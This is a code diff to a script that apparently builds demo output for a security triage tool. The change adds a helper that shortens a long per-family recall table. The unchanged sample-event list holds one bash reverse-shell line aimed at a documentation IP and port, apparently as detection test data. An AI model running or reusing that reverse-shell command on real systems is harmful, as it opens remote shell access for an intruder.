@@ -17,6 +17,7 @@ EVENTS = [
     "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     "flows host=gw src=192.168.1.46 dst=db.corp.test conns=2^10 ports=2^9 peers=2^1 failed=50% gap=2^1s jitter=2^1%",
 ]
+FAMILIES_SHOWN = 8
 COMMANDS = [
     f"overproof demo --out {DEMO}",
     f"overproof triage {DEMO}/bundle {OUT}/events.txt",
@@ -43,6 +44,16 @@ def measured() -> dict[str, Any]:
 
 
 def to_markdown(result: dict[str, Any]) -> str:
-    """All of it in one block; the trailing blanks of each output are left out."""
-    parts = [f"$ {command}\n{printed.rstrip()}" for command, printed in result.items()]
+    """All of it in one block; of the long table of families, the first rows."""
+    parts = [f"$ {command}\n{_shortened(printed).rstrip()}" for command, printed in result.items()]
     return "```console\n" + "\n\n".join(parts) + "\n```"
+
+
+def _shortened(printed: str) -> str:
+    head, found, rest = printed.partition("recall by family")
+    table, blank, tail = rest.partition("\n\n")
+    rows = table.splitlines()
+    if not found or len(rows) <= FAMILIES_SHOWN + 2:
+        return printed
+    left_out = f"[… {len(rows) - 2 - FAMILIES_SHOWN} more families]"
+    return head + found + "\n".join([*rows[: 2 + FAMILIES_SHOWN], left_out]) + blank + tail
